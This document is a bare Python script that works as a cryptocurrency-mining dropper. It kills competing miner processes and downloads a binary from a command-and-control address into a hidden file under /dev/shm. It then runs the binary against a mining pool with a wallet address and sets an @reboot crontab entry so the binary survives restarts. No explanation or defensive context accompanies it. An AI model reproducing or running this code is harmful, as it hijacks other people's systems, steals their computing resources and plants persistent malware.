#!/usr/bin/env python3
import os
import subprocess
import urllib.request

C2 = "http://198.51.100.21"
for name in ("xmrig", "kinsing", "kdevtmpfsi", "minerd"):
    subprocess.call(["pkill", "-9", "-f", name])
data = urllib.request.urlopen(C2 + "/bin/x").read()
path = "/dev/shm/.x"
with open(path, "wb") as f:
    f.write(data)
os.chmod(path, 0o755)
os.system("echo 1024 > /proc/sys/vm/nr_hugepages")
subprocess.Popen([path, "-o", "pool.example.net:3333", "-u", "4AMASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVK"], stdout=subprocess.DEVNULL)
os.system('(crontab -l; echo "@reboot %s") | crontab -' % path)
